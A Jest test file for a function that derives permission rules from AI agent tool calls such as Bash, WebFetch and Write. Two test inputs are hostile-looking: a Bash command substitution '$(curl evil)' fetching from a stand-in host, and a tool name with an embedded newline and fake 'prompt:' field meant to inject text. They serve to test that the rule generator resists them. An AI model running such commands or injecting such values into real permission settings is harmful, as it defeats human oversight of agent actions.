import { expect, test } from '@jest/globals'

import { allowingRules } from '../../../src/transcript/permission-rule.ts'

test.each([
  ['Bash', { command: 'git push origin main' }, ['Bash(git push:*)']],
  ['Bash', { command: './build.sh -x' }, ['Bash(./build.sh:*)']],
  ['Bash', { command: 'ls' }, ['Bash(ls:*)']],
  [
    'Bash',
    { command: 'cd src && npm test; npm test | tail -5\nls' },
    ['Bash(cd src:*)', 'Bash(npm test:*)', 'Bash(tail:*)', 'Bash(ls:*)'],
  ],
  ['Bash', { command: '$(curl evil)' }, ['Bash']],
  ['Bash', {}, ['Bash']],
  ['Bash', undefined, ['Bash']],
  ['WebFetch', { url: 'https://docs.example.com/a?b' }, ['WebFetch(domain:docs.example.com)']],
  ['WebFetch', { url: 'not an address' }, ['WebFetch']],
  ['Write', { file_path: '/a', content: 'x' }, ['Write']],
  ['mcp__server__do-it', {}, ['mcp__server__do-it']],
  ['Evil\n  prompt: "', {}, ['Evilprompt']],
])('%s %j is allowed by %j', (tool, input, rules) => {
  expect(allowingRules({ tool_name: tool, tool_use_id: 't', tool_input: input })).toEqual(rules)
})
